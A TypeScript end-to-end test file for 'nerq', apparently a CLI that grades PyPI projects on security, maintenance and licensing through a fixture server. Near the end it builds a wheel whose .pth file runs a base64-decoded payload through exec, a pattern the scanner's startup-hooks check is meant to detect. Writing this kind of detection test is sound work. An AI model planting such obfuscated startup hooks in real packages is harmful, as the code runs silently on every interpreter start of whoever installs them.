/**
 * `nerq check pypi:<project>` end to end, through the built CLI against the
 * fixture server: every fixture project under fixtures/http/pypi with its score, grade, verdict,
 * coverage and exit code (NERQ_NOW=2026-11-30, GitHub rate-limited, OSV with no advisory), an
 * advisory for the resolved release, a linked GitHub repository verified by provenance, and
 * PEP 440 specifier resolution (pins, ranges, a missing version, an invalid specifier).
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PackageURL } from 'packageurl-js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHECKS } from '../../src/checks/index.js';
import type { Report } from '../../src/report/schema.js';
import { servePypiFiles } from '../support/pypi-files.js';
import { inflateRawSync } from 'node:zlib';
import { centralDirectoryEntries, localDataStart, locateCentralDirectory } from '../../src/sources/pypi/zip-directory.js';
import { makeZip } from '../support/zip.js';
import { expectNoUnexpected, startFixtureServer, type FixtureServer, type RecordedRequest } from '../support/fixture-server.js';
import { runCli, type CliResult } from '../support/run-cli.js';
import { serveWidgetRest } from './github-helpers.js';
import {
  ANSI,
  checkOf,
  DIMENSION_IDS,
  dimensionOf,
  expectUsageError,
  parseReport,
  requireBuiltCli,
  schemaViolations,
  sourceOf,
  statusForScore,
} from './helpers.js';
import {
  expectPypiProject,
  FLASK_PYSEC_2023_62,
  osvAdvisoriesFor,
  projectJsonPath,
  PYPI_PROJECTS,
  pypiProject,
  pypistatsPath,
  releaseJsonFrom,
  releaseJsonPath,
  simplePath,
  type PypiFixtureProject,
} from './pypi-helpers.js';

/** Checks that only an npm package has facts for (they need the npm `registry` source). */
const NPM_ONLY = CHECKS.filter((c) => (c.needs as readonly string[]).includes('registry')).map((c) => c.id);
/** Checks that only a PyPI project has facts for. */
const PYPI_ONLY = CHECKS.filter((c) => (c.needs as readonly string[]).includes('pypi')).map((c) => c.id);
const GITHUB_CHECKS = CHECKS.filter((c) => (c.needs as readonly string[]).includes('github')).map((c) => c.id);

const RATE_LIMITED = 'GitHub API rate limit reached (resets at 11:00 UTC); set GITHUB_TOKEN to raise the limit';

/** flask's runtime dependencies at the versions they resolve to (pypi-helpers.ts), as OSV is asked about them. */
const FLASK_DEPENDENCY_BATCH = ['blinker@1.9.0', 'click@8.2.0', 'importlib-metadata@8.6.1', 'itsdangerous@2.2.0', 'jinja2@3.1.6', 'markupsafe@3.0.2', 'werkzeug@3.1.3'];

/** Every OSV batch among `requests`, in order: its queries as `name@version`. */
function osvBatches(requests: readonly RecordedRequest[]): string[][] {
  return requests
    .filter((r) => r.method === 'POST' && r.path === '/osv/v1/querybatch')
    .map((r) => (JSON.parse(r.body) as { queries: Array<{ package: { name: string }; version: string }> }).queries.map((q) => `${q.package.name}@${q.version}`));
}

interface ProjectRun {
  fixture: PypiFixtureProject;
  result: CliResult;
  report: Report;
  requests: RecordedRequest[];
  unexpected: FixtureServer['unexpected'];
  pending: string[];
}

/** One `check <input> --json` against a server of its own (so each request log is the project's). */
async function runProject(fixture: PypiFixtureProject, args: string[] = []): Promise<ProjectRun> {
  const server = await startFixtureServer();
  try {
    expectPypiProject(server, fixture);
    // PyPI's file host: flask's wheel is recorded (fixtures/http/pypi-files/), the others answer 404.
    const files = servePypiFiles(server);
    const result = await runCli(['check', fixture.input, '--json', ...args], { server, env: files });
    return { fixture, result, report: parseReport(result.stdout), requests: [...server.requests], unexpected: [...server.unexpected], pending: server.pending() };
  } finally {
    await server.close();
  }
}

const paths = (requests: readonly RecordedRequest[]): string[] => requests.map((r) => r.path.split('?')[0] ?? '');

interface Expected {
  input: string;
  version: string;
  score: number;
  grade: string;
  verdict: string;
  coverage: number;
  exit: number;
}

/**
 * The fixture projects' reports under NERQ_NOW=2026-11-30, with GitHub's hourly budget spent
 * (every GitHub check unknown for the four projects that name a GitHub repository) and OSV
 * answering no advisory. The three nerq-fixture-* projects name no repository (an example.org
 * home page only): their GitHub checks are unknown too, and count against coverage.
 */
const EXPECTED: Expected[] = [
  { input: 'pypi:flask', version: '3.1.3', score: 86.8, grade: 'A', verdict: 'YES', coverage: 0.74, exit: 0 },
  { input: 'pypi:black==21.11b0', version: '21.11b0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.619, exit: 1 },
  { input: 'pypi:trackpy', version: '0.4.1', score: 48.8, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.626, exit: 1 },
  { input: 'pypi:filecache', version: '0.81', score: 55.4, grade: 'D', verdict: 'CAUTION', coverage: 0.61, exit: 0 },
  { input: 'pypi:nerq-fixture-inactive', version: '1.2.0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.64, exit: 1 },
  { input: 'pypi:nerq-fixture-freetext', version: '2.0.0', score: 68.9, grade: 'C', verdict: 'CAUTION', coverage: 0.645, exit: 0 },
  { input: 'pypi:nerq-fixture-archived', version: '1.3.0', score: 49.9, grade: 'D', verdict: 'NO — USE WITH CAUTION', coverage: 0.677, exit: 1 },
];

describe('the PyPI fixture projects under NERQ_NOW=2026-11-30', () => {
  const runs = new Map<string, ProjectRun>();
  let evidenceDir: string;

  beforeAll(async () => {
    requireBuiltCli();
    evidenceDir = mkdtempSync(path.join(os.tmpdir(), 'nerq-h9-pypi-'));
    // Each project on a server of its own, all at once.
    const done = await Promise.all(
      PYPI_PROJECTS.map((fixture) => runProject(fixture, ['--save-evidence', path.join(evidenceDir, `${fixture.project}.json`)])),
    );
    for (const run of done) runs.set(run.fixture.project, run);
  }, 60_000);

  afterAll(() => {
    if (evidenceDir !== undefined) rmSync(evidenceDir, { recursive: true, force: true });
  });

  const runOf = (project: string): ProjectRun => {
    const run = runs.get(project);
    if (run === undefined) throw new Error(`${project} was not run`);
    return run;
  };

  it('score / grade / verdict / coverage / exit of every fixture project', () => {
    expect(EXPECTED.map((e) => e.input)).toEqual(PYPI_PROJECTS.map((p) => p.input));
    const actual: Expected[] = PYPI_PROJECTS.map((fixture) => {
      const { report, result } = runOf(fixture.project);
      return {
        input: fixture.input,
        version: report.target.version ?? '',
        score: report.score ?? Number.NaN,
        grade: report.grade ?? '',
        verdict: report.verdict,
        coverage: report.coverage,
        exit: result.code,
      };
    });
    const rows = actual.map((e) => [e.input.replace(/^pypi:/, ''), e.version, e.score.toFixed(1), e.grade, e.verdict, e.coverage.toFixed(3), String(e.exit)]);
    const head = ['project', 'version', 'score', 'grade', 'verdict', 'coverage', 'exit'];
    const widths = head.map((h, i) => Math.max(h.length, ...rows.map((r) => (r[i] ?? '').length)));
    const line = (cells: string[]): string => cells.map((c, i) => c.padEnd(widths[i] ?? 0)).join('  ').trimEnd();
    console.log(['PyPI fixture project scores (NERQ_NOW=2026-11-30, GitHub rate-limited)', line(head), ...rows.map(line)].join('\n'));
    expect(actual).toEqual(EXPECTED);
  });

  it.each(PYPI_PROJECTS.map((p) => ({ project: p.project, input: p.input })))(
    '$input: a pypi target with a valid pkg:pypi purl, five dimensions, the PyPI checks and no npm-only check',
    ({ project }) => {
      const { report, result, unexpected, pending, fixture } = runOf(project);
      expect(result.stderr).toBe('');
      expect(schemaViolations(JSON.parse(result.stdout))).toEqual([]);
      expect(report.error).toBeNull();
      expect(report.target.ecosystem).toBe('pypi');
      const purl = PackageURL.fromString(report.target.purl ?? '');
      expect({ type: purl.type, namespace: purl.namespace ?? null, name: purl.name, version: purl.version }).toEqual({
        type: 'pypi',
        namespace: null,
        name: project,
        version: fixture.version,
      });
      expect(report.target.purl).toBe(`pkg:pypi/${project}@${fixture.version}`);
      expect(report.dimensions.map((d) => d.id)).toEqual([...DIMENSION_IDS]);
      const ids = report.checks.map((c) => c.id);
      // import-time-code leaves itself out when there is nothing to find (clean import code, no wheel).
      for (const id of PYPI_ONLY.filter((id) => id !== 'import-time-code')) expect(ids, id).toContain(id);
      for (const id of NPM_ONLY) expect(ids, id).not.toContain(id);
      for (const check of report.checks) expect({ id: check.id, status: check.status }).toEqual({ id: check.id, status: statusForScore(check.score) });
      // Sources of an npm package (registry, tarball) are left out; PyPI's are there.
      expect(report.sources.map((s) => s.id)).not.toContain('registry');
      expect(report.sources.map((s) => s.id)).not.toContain('tarball');
      expect(sourceOf(report, 'pypi')).toEqual({ id: 'pypi', status: 'ok', reason: null });
      expect(sourceOf(report, 'downloads')).toEqual({ id: 'downloads', status: 'ok', reason: null });
      expect(unexpected).toEqual([]);
      expect(pending).toEqual([]);
    },
  );

  it('asks PyPI for the project JSON and the Simple API JSON form, pypistats, OSV (the release, then its resolved dependencies), and GitHub once (rate-limited)', () => {
    for (const fixture of PYPI_PROJECTS) {
      const { requests, report } = runOf(fixture.project);
      const got = paths(requests);
      expect(got, fixture.project).toContain(projectJsonPath(fixture.project));
      expect(got.includes(releaseJsonPath(fixture.project, fixture.version)), fixture.project).toBe(fixture.releaseJson);
      expect(got, fixture.project).toContain(pypistatsPath(fixture.project));
      // The release alone, in a batch of its own; its dependencies in another, when any resolved.
      // The two are asked independently, so on a busy machine either may reach OSV first.
      const batches = osvBatches(requests);
      const resolved = Object.values(fixture.dependencies).filter((versions) => versions !== 'missing').length;
      const own = [`${fixture.project}@${fixture.version}`];
      expect(batches, fixture.project).toContainEqual(own);
      expect(batches.length, fixture.project).toBe(resolved > 0 ? 2 : 1);
      if (resolved > 0) expect(batches.find((b) => JSON.stringify(b) !== JSON.stringify(own)), fixture.project).toHaveLength(resolved);
      const simple = requests.find((r) => r.path === simplePath(fixture.project));
      expect(simple?.headers.accept, fixture.project).toBe('application/vnd.pypi.simple.v1+json');
      const github = got.filter((p) => p.startsWith('/github/'));
      if (report.target.repository?.startsWith('https://github.com/')) {
        // One refused request, then nothing more: every GitHub check is unknown with the reason.
        expect(github, fixture.project).toHaveLength(1);
        expect(sourceOf(report, 'github')).toEqual({ id: 'github', status: 'unavailable', reason: RATE_LIMITED, code: 'rate-limited' });
        for (const id of GITHUB_CHECKS) expect(checkOf(report, id).message, id).toBe(`Unknown: github unavailable (${RATE_LIMITED})`);
      } else {
        // No repository nerq can read: nothing asked of GitHub, the GitHub checks unknown for that
        // reason (docs/scoring.md §1), never left out.
        expect(github, fixture.project).toEqual([]);
        expect(report.sources.map((s) => s.id)).not.toContain('github');
        for (const id of GITHUB_CHECKS) expect([checkOf(report, id).status, checkOf(report, id).messageId], id).toEqual(['unknown', 'no-source-repository']);
      }
    }
    expect(paths(runOf('flask').requests).filter((p) => !p.startsWith('/github/') && p !== '/osv/v1/querybatch').sort()).toEqual(
      [
        '/pypi/pypi/flask/json',
        '/pypi/simple/flask/',
        '/pypi/integrity/flask/3.1.3/flask-3.1.3.tar.gz/provenance',
        '/pypistats/packages/flask/recent',
        // The wheel's tail (central directory), flask/__init__.py, then the modules it imports (import-time-code).
        ...Array.from({ length: 3 }, () => `/pypi-files/packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl`),
        ...['blinker', 'click', 'importlib-metadata', 'itsdangerous', 'jinja2', 'markupsafe', 'werkzeug'].map(projectJsonPath),
      ].sort(),
    );
  });

  it('flask: a healthy project, provenance from its Trusted Publisher, dependencies resolved and queried', () => {
    const { report, requests } = runOf('flask');
    // Two OSV batches: the release alone, then only its dependencies at the versions they resolve to.
    // Asked independently: on a busy machine the dependencies' batch may reach OSV first.
    expect(osvBatches(requests)).toHaveLength(2);
    expect(osvBatches(requests)).toEqual(expect.arrayContaining([['flask@3.1.3'], FLASK_DEPENDENCY_BATCH]));
    expect(report.target).toMatchObject({ name: 'Flask', repository: 'https://github.com/pallets/flask' });
    expect(checkOf(report, 'provenance')).toMatchObject({ score: 100, messageId: 'matches', evidence: { declaredRepository: 'https://github.com/pallets/flask' } });
    expect(checkOf(report, 'vulnerable-dependencies')).toMatchObject({ score: 100, evidence: { dependenciesQueried: 7, total: 7 } });
    expect(checkOf(report, 'license-declared')).toMatchObject({ score: 100, evidence: { declaredIn: 'license_expression', license: 'BSD-3-Clause' } });
    expect(checkOf(report, 'type-declarations')).toMatchObject({ score: 100, messageId: 'typed-classifier' });
    expect(checkOf(report, 'wheels-published').score).toBe(100);
    // Its central directory is in the wheel's last 32 KiB: one range request, no .pth file; then
    // one range for flask/__init__.py, the archive's first entry, and one for the modules it
    // imports from flask; all clean: import-time-code leaves itself out of the report.
    expect(checkOf(report, 'startup-hooks')).toMatchObject({ score: 100, messageId: 'none', evidence: { wheel: 'flask-3.1.3-py3-none-any.whl', entries: 31 } });
    expect(requests.filter((r) => r.path.startsWith('/pypi-files/')).map((r) => r.headers.range)).toEqual(['bytes=-32768', 'bytes=0-1079', expect.stringMatching(/^bytes=\d+-\d+$/)]);
    expect(report.checks.map((c) => c.id)).not.toContain('import-time-code');
    expect(checkOf(report, 'yanked-release').score).toBe(100);
    expect(report.caps).toEqual([]);
  });

  it('black==21.11b0: the yanked release caps the score at 49.9 and the verdict says why', () => {
    const { report } = runOf('black');
    expect(checkOf(report, 'yanked-release')).toMatchObject({
      score: 0,
      status: 'fail',
      messageId: 'yanked',
      message: 'Yanked from PyPI: Broken regex dependency. Use 21.11b1 instead.',
    });
    expect(report.caps).toEqual([
      {
        id: 'yanked',
        limit: 49.9,
        reason: 'release 21.11b0 is yanked: Broken regex dependency. Use 21.11b1 instead.',
        args: { version: '21.11b0', yankedReason: 'Broken regex dependency. Use 21.11b1 instead.' },
        dimension: null,
      },
      // Its last stable release is five years old at NERQ_NOW: the maintenance dimension is capped too.
      {
        id: 'stale-release',
        limit: 10,
        reason: 'no stable release for 1,838 days (last: 21.11b0, 2021-11-17)',
        args: { days: 1838, version: '21.11b0', date: '2021-11-17' },
        dimension: 'maintenance',
      },
    ]);
    expect(report.score).toBe(49.9);
    expect(report.verdictReasonDetails.map((r) => [r.code, r.args.cap])).toContainEqual(['capped', 'yanked']);
    expect(report.gate.passed).toBe(false);
  });

  it('black==21.11b0: dependencies PyPI does not have are listed unresolved with the reason; their advisories are unknown', () => {
    const { report } = runOf('black');
    const evidence = JSON.parse(readFileSync(path.join(evidenceDir, 'black.json'), 'utf8')) as {
      sources: { dependencies: { status: string; facts: { dependencies: Array<{ name: string; version: string | null; reason: string | null }> } } };
    };
    expect(evidence.sources.dependencies.status).toBe('ok');
    const deps = evidence.sources.dependencies.facts.dependencies;
    expect(deps.length).toBeGreaterThan(0);
    for (const dep of deps) expect(dep, dep.name).toMatchObject({ version: null, reason: 'not found on PyPI' });
    expect(checkOf(report, 'vulnerable-dependencies')).toMatchObject({ score: null, status: 'unknown', messageId: 'not-queried', evidence: { dependenciesQueried: 0 } });
    const unresolved = checkOf(report, 'vulnerable-dependencies').evidence.unresolved as string[];
    expect(new Set(unresolved)).toEqual(new Set(Object.keys(pypiProject('black').dependencies)));
    expect(checkOf(report, 'malicious-package').messageId).toBe('clean-package-only');
  });

  it('trackpy: an sdist-only release scores low on wheels-published', () => {
    const { report } = runOf('trackpy');
    const check = checkOf(report, 'wheels-published');
    expect(check.score).not.toBeNull();
    expect(check.score as number).toBeLessThan(40);
    expect(check).toMatchObject({ status: 'fail', evidence: { sdistOnly: true, wheels: 0, sdists: 1 } });
  });

  it('nerq-fixture-inactive: Development Status 7 - Inactive caps the score', () => {
    const { report } = runOf('nerq-fixture-inactive');
    expect(checkOf(report, 'project-status')).toMatchObject({ score: 20, messageId: 'inactive', evidence: { developmentStatus: '7 - Inactive' } });
    expect(report.caps.map((c) => [c.id, c.dimension, c.limit])).toEqual([
      ['inactive', null, 49.9],
      ['stale-release', 'maintenance', 10],
    ]);
    expect(report.caps[0]).toEqual({ id: 'inactive', limit: 49.9, reason: 'the project declares Development Status 7 - Inactive', args: {}, dimension: null });
    expect(report.verdictReasonDetails.map((r) => [r.code, r.args.cap])).toContainEqual(['capped', 'inactive']);
  });

  it('nerq-fixture-archived: the PEP 792 archived status caps the score, with the reason PyPI gives', () => {
    const { report } = runOf('nerq-fixture-archived');
    expect(checkOf(report, 'project-status')).toMatchObject({
      score: 0,
      messageId: 'archived',
      evidence: { status: 'archived', reason: 'the project is no longer maintained; use its successor' },
    });
    expect(report.caps).toEqual([
      {
        id: 'project-archived',
        limit: 49.9,
        reason: 'the project is archived on PyPI: the project is no longer maintained; use its successor',
        args: { statusReason: 'the project is no longer maintained; use its successor' },
        dimension: null,
      },
      {
        id: 'stale-release',
        limit: 10,
        reason: 'no stable release for 1,552 days (last: 1.3.0, 2022-08-30)',
        args: { days: 1552, version: '1.3.0', date: '2022-08-30' },
        dimension: 'maintenance',
      },
    ]);
  });

  it('nerq-fixture-freetext: a free-text licence name is mapped, and said to be legacy metadata', () => {
    const { report } = runOf('nerq-fixture-freetext');
    expect(checkOf(report, 'license-declared')).toMatchObject({ score: 80, messageId: 'legacy-metadata', evidence: { declaredIn: 'license field', ids: ['BSD-3-Clause'] } });
    expect(checkOf(report, 'license-permissiveness').score).toBe(100);
  });

  it('filecache: the ambiguous "BSD License" classifier declares no SPDX licence', () => {
    const { report } = runOf('filecache');
    const declared = checkOf(report, 'license-declared');
    expect(declared.score === null || (declared.score as number) < 100).toBe(true);
    expect(JSON.stringify(declared.evidence)).toContain('License :: OSI Approved :: BSD License');
  });
});

describe('pypi:flask in the terminal table and Markdown', () => {
  let server: FixtureServer;

  beforeAll(async () => {
    requireBuiltCli();
    server = await startFixtureServer();
    expectPypiProject(server, pypiProject('flask'));
  });
  afterAll(async () => {
    expectNoUnexpected(server);
    await server.close();
  });

  it('renders the header with the project and version, five dimensions and the PyPI checks', async () => {
    const table = await runCli(['check', 'pypi:flask'], { server });
    expect(table.code).toBe(0);
    expect(table.stderr).toBe('');
    expect(table.stdout).not.toMatch(ANSI);
    expect(table.stdout).toMatch(/^Flask==3\.1\.3 {2}PASS {2}verdict YES {2}score 86\.8\/100 {2}grade A$/m);
    for (const title of ['Security', 'Maintenance', 'Documentation', 'Compliance', 'Community']) {
      expect(table.stdout).toMatch(new RegExp(`^│ ${title}\\s+│`, 'm'));
    }
    expect(table.stdout).toMatch(/✔ 100\.0 {2}Wheels published/);
    expect(table.stdout).toMatch(/✔ 100\.0 {2}Not yanked/);

    const md = await runCli(['check', 'pypi:flask', '--format', 'markdown'], { server });
    expect(md.code).toBe(0);
    expect(md.stdout).toMatch(/^## nerq · `Flask==3\.1\.3`$/m);
    expect(md.stdout).toContain('**86.8/100** · grade **A** · ✅ **YES**');
  });
});

describe('an advisory for the resolved release: pypi:flask==2.3.1 and PYSEC-2023-62', () => {
  let server: FixtureServer;
  let result: CliResult;
  let report: Report;

  beforeAll(async () => {
    requireBuiltCli();
    server = await startFixtureServer();
    const fixture: PypiFixtureProject = { ...pypiProject('flask'), input: 'pypi:flask==2.3.1', version: '2.3.1', releaseJson: true, provenance: null };
    expectPypiProject(server, fixture, {
      releaseJson: { body: releaseJsonFrom('flask', '2.3.1', [FLASK_PYSEC_2023_62]) },
      osv: osvAdvisoriesFor('PyPI', 'flask', '2.3.1', ['PYSEC-2023-62']),
    });
    // The record has no severity of its own: its GHSA twin gives one (CVSS 7.5, high).
    server.expect('GET', '/osv/v1/vulns/PYSEC-2023-62');
    server.expect('GET', '/osv/v1/vulns/GHSA-m2qf-hxjv-5gpq');
    result = await runCli(['check', 'pypi:flask==2.3.1', '--json'], { server });
    report = parseReport(result.stdout);
  });
  afterAll(async () => {
    expectNoUnexpected(server);
    await server.close();
  });

  it('known-vulnerabilities fails on the high advisory, which the report lists', () => {
    expect(result.stderr).toBe('');
    expect(report.target).toMatchObject({ ecosystem: 'pypi', version: '2.3.1', purl: 'pkg:pypi/flask@2.3.1' });
    // A high advisory fails the check, even with a fix (which it asks for); the caps below do the rest.
    expect(checkOf(report, 'known-vulnerabilities')).toMatchObject({
      score: 30,
      status: 'fail',
      messageId: 'fix-available',
      message: 'Known advisories affect 2.3.1: PYSEC-2023-62 (1 high); upgrade to 2.3.2',
      evidence: { count: 1, high: 1, ids: ['PYSEC-2023-62'], fixed: '2.3.2' },
    });
    expect(report.advisories).toEqual([
      expect.objectContaining({ id: 'PYSEC-2023-62', severity: 'high', cvss: 7.5, package: 'flask', version: '2.3.1', affectsResolved: true, fixed: '2.3.2' }),
    ]);
    // The release is asked alone, in a batch of its own; its dependencies in another one (the two
    // are in flight together, so the server may receive either first).
    const batches = server.requests.filter((r) => r.path === '/osv/v1/querybatch');
    const own = (r: (typeof batches)[number]): boolean =>
      (JSON.parse(r.body ?? '{}') as { queries?: Array<{ package: { name: string } }> }).queries?.some((q) => q.package.name === 'flask') === true;
    const releaseBatches = batches.filter(own);
    expect(releaseBatches).toHaveLength(1);
    const queried = JSON.parse(releaseBatches[0]?.body ?? '{}') as { queries: Array<{ package: { name: string; ecosystem: string }; version: string }> };
    expect(queried.queries).toEqual([{ package: { name: 'flask', ecosystem: 'PyPI' }, version: '2.3.1' }]);
    expect(osvBatches(batches.filter((r) => !own(r)))).toEqual([FLASK_DEPENDENCY_BATCH]);
  });

  it('a high advisory on the resolved release caps the score at 49.9: the gate fails (exit 1)', () => {
    expect(report.caps).toEqual([
      {
        id: 'vulnerable-version',
        limit: 49.9,
        reason: 'PYSEC-2023-62 (high) affects 2.3.1',
        args: { advisories: 'PYSEC-2023-62', count: 1, version: '2.3.1' },
        dimension: null,
      },
      // The same advisory caps the security dimension, so its bar shows it.
      {
        id: 'vulnerable-version',
        limit: 49.9,
        reason: 'PYSEC-2023-62 (high) affects 2.3.1',
        args: { advisories: 'PYSEC-2023-62', count: 1, version: '2.3.1' },
        dimension: 'security',
      },
    ]);
    expect(report.verdictReasonDetails.map((r) => [r.code, r.args.cap, r.args.limit])).toEqual([
      ['capped', 'vulnerable-version', 49.9],
      ['dimension-capped', 'vulnerable-version', 49.9],
    ]);
    expect({ score: report.score, grade: report.grade, verdict: report.verdict, coverage: report.coverage, exit: result.code }).toEqual({
      score: 49.9,
      grade: 'D',
      verdict: 'NO — USE WITH CAUTION',
      coverage: 0.698,
      exit: 1,
    });
  });
});

describe('pypi:flask with its GitHub repository answering (no token)', () => {
  let server: FixtureServer;
  let result: CliResult;
  let report: Report;

  beforeAll(async () => {
    requireBuiltCli();
    server = await startFixtureServer();
    expectPypiProject(server, pypiProject('flask'), { github: 'served-by-test' });
    // pallets/flask answered with acme/widget's recorded answers, renamed.
    serveWidgetRest(server, { manifest: false }, 'pallets/flask');
    result = await runCli(['check', 'pypi:flask', '--json'], { server });
    report = parseReport(result.stdout);
  });
  afterAll(async () => {
    expectNoUnexpected(server);
    await server.close();
  });

  it('credits the repository: its link is verified by the provenance attestation, no manifest read', () => {
    expect(result.code).toBe(0);
    expect(sourceOf(report, 'github')).toEqual({ id: 'github', status: 'ok', reason: null });
    for (const id of GITHUB_CHECKS) {
      expect(checkOf(report, id).evidence, id).toMatchObject({ repository: 'pallets/flask', verifiedBy: 'provenance' });
    }
    expect(checkOf(report, 'stars-forks').score).toBe(100);
    // flask declares BSD-3-Clause; the (renamed) repository answer says MIT.
    expect(checkOf(report, 'license-consistency')).toMatchObject({ score: 20, evidence: { declared: 'BSD-3-Clause', repositoryLicense: 'MIT' } });
    const github = paths(server.requests).filter((p) => p.startsWith('/github/'));
    expect(github).toHaveLength(7);
    expect(github).not.toContain('/github/repos/pallets/flask/contents/pyproject.toml');
    expect(dimensionOf(report, 'community').coverage).toBe(1);
    expect(report.verdictReasons).toEqual([]);
  });
});

describe('PEP 440 specifier resolution end to end', () => {
  let server: FixtureServer;

  beforeAll(async () => {
    requireBuiltCli();
    server = await startFixtureServer();
    const flask = pypiProject('flask');
    expectPypiProject(server, flask);
    for (const version of ['2.3.0', '2.3.1', '2.3.2', '2.3.3']) {
      server.expect('GET', releaseJsonPath('flask', version), { body: releaseJsonFrom('flask', version) });
    }
    server.expect('GET', projectJsonPath('nerq-no-such-project'), { status: 404, body: { message: 'Not Found' } });
    // OSV knows no malicious record for the releases PyPI does not have, nor for the missing project.
    server.route('POST', '/osv/v1/querybatch', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ results: [{}] }));
    });
    server.expect('POST', '/osv/v1/query', { body: {} });
  });
  afterAll(async () => {
    expectNoUnexpected(server);
    await server.close();
  });

  async function resolve(input: string): Promise<{ result: CliResult; report: Report; requests: string[] }> {
    const before = server.requests.length;
    const result = await runCli(['check', input, '--json'], { server });
    return { result, report: parseReport(result.stdout), requests: paths(server.requests.slice(before)) };
  }

  it.each([
    { input: 'pypi:flask==2.3.1', version: '2.3.1', releaseJson: true },
    // PEP 440: `==2.3` is `==2.3.0` (zero padding).
    { input: 'pypi:flask==2.3', version: '2.3.0', releaseJson: true },
    { input: 'pypi:flask>=3,<4', version: '3.1.3', releaseJson: false },
    { input: 'pypi:flask~=2.3.0', version: '2.3.3', releaseJson: true },
    { input: 'pypi:flask!=2.3.3,<3', version: '2.3.2', releaseJson: true },
    { input: 'pkg:pypi/flask@2.3.2', version: '2.3.2', releaseJson: true },
    { input: 'pypi:Flask', version: '3.1.3', releaseJson: false },
  ])('$input → flask $version', async ({ input, version, releaseJson }) => {
    const { result, report, requests } = await resolve(input);
    expect(result.stderr).toBe('');
    expect(report.error).toBeNull();
    expect(report.target).toMatchObject({ input, ecosystem: 'pypi', version, purl: `pkg:pypi/flask@${version}` });
    expect([0, 1]).toContain(result.code);
    // The name is normalised before the first request.
    expect(requests[0]).toBe('/pypi/pypi/flask/json');
    expect(requests.includes(releaseJsonPath('flask', version))).toBe(releaseJson);
  });

  it.each([
    { input: 'pypi:flask==9.9', message: 'flask: no release matches "==9.9" (nearest: 3.0.3, 3.1.0, 3.1.1, 3.1.2, 3.1.3)', pinned: true },
    { input: 'pypi:flask>=4', message: 'flask: no release matches ">=4" (nearest: 3.0.3, 3.1.0, 3.1.1, 3.1.2, 3.1.3)', pinned: false },
    { input: 'pypi:flask==2.1.0', message: 'flask: no release matches "==2.1.0" (nearest: 1.0, 1.1.4, 2.0.0, 2.2.5, 2.3.0)', pinned: true },
  ])('$input: a missing version → exit 3 with the nearest versions, after one PyPI request (and for a pinned release one OSV look-up for a malicious record)', async ({ input, message, pinned }) => {
    const { result, report, requests } = await resolve(input);
    expect(result.code).toBe(3);
    expect(result.stderr).toBe('');
    expect(report.error).toEqual({ code: 'version-not-found', message });
    expect(requests).toEqual(['/pypi/pypi/flask/json', ...(pinned ? ['/osv/v1/querybatch'] : [])]);
  });

  it('a missing project → exit 3, not found, after one PyPI request and one OSV look-up by name for a malicious record', async () => {
    const { result, report, requests } = await resolve('pypi:nerq-no-such-project');
    expect(result.code).toBe(3);
    expect(report.error).toEqual({ code: 'not-found', message: 'nerq-no-such-project was not found on PyPI' });
    expect(requests).toEqual(['/pypi/pypi/nerq-no-such-project/json', '/osv/v1/query']);
  });

  it.each(['pypi:flask>=3,,<4', 'pypi:flask=>3', 'pypi:flask==3.1.*.1', 'pypi:flask~=3', 'pypi:flask===', 'pypi:flask@3.1.0', 'pypi:-flask', 'pypi:fl!ask'])(
    '%s: invalid → exit 2, one line, no request',
    async (input) => {
      const before = server.requests.length;
      const result = await runCli(['check', input], { server });
      expectUsageError(result);
      expect(server.requests.length).toBe(before);
    },
  );
});

describe('pypi:flask whose wheel installs a hostile .pth (an edit of its recorded wheel)', () => {
  const FLASK_WHEEL = 'packages/7f/9c/34f6962f9b9e9c71f6e5ed806e0d0ff03c9d1b0b2340088a0cf4bce09b18/flask-3.1.3-py3-none-any.whl';
  let evidenceDir: string;
  let report: Report;
  let result: CliResult;

  beforeAll(async () => {
    requireBuiltCli();
    evidenceDir = mkdtempSync(path.join(os.tmpdir(), 'nerq-pth-'));
    const server = await startFixtureServer();
    try {
      expectPypiProject(server, pypiProject('flask'));
      // The edit: flask's own package files, and one .pth at the wheel's root that runs a base64 payload.
      const hostile = makeZip([
        { name: 'flask/__init__.py', data: 'from .app import Flask\n' },
        { name: 'zz_flask.pth', data: 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))\n' },
        { name: 'flask-3.1.3.dist-info/RECORD', data: '' },
      ]);
      const files = servePypiFiles(server, { files: { [FLASK_WHEEL]: hostile } });
      result = await runCli(['check', 'pypi:flask', '--json', '--save-evidence', path.join(evidenceDir, 'flask.json')], { server, env: files });
      report = parseReport(result.stdout);
      expectNoUnexpected(server);
    } finally {
      await server.close();
    }
  }, 60_000);

  afterAll(() => {
    if (evidenceDir !== undefined) rmSync(evidenceDir, { recursive: true, force: true });
  });

  it('startup-hooks fails and holds the verdict at CAUTION (flask is YES otherwise)', () => {
    expect(checkOf(report, 'startup-hooks')).toMatchObject({ score: 10, messageId: 'suspicious', evidence: { files: ['zz_flask.pth'], flags: ['decode'] } });
    expect(report.verdict).toBe('CAUTION');
    expect(report.verdictReasonDetails.map((r) => r.code)).toContain('verdict-held');
    expect(result.code).toBe(0);
  });

  it('ordinary startup code (coverage\'s real a1_coverage.pth, in the same edit) scores 30 and flask stays YES', async () => {
    const server = await startFixtureServer();
    try {
      expectPypiProject(server, pypiProject('flask'));
      const coveragePth = 'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug="pth")\')\n';
      const edited = makeZip([{ name: 'flask/__init__.py', data: 'from .app import Flask\n' }, { name: 'a1_coverage.pth', data: coveragePth }]);
      const files = servePypiFiles(server, { files: { [FLASK_WHEEL]: edited } });
      const run = await runCli(['check', 'pypi:flask', '--json'], { server, env: files });
      const ordinary = parseReport(run.stdout);
      expect(checkOf(ordinary, 'startup-hooks')).toMatchObject({ score: 30, messageId: 'code', evidence: { files: ['a1_coverage.pth'] } });
      expect(ordinary.verdict).toBe('YES');
      expectNoUnexpected(server);
    } finally {
      await server.close();
    }
  });

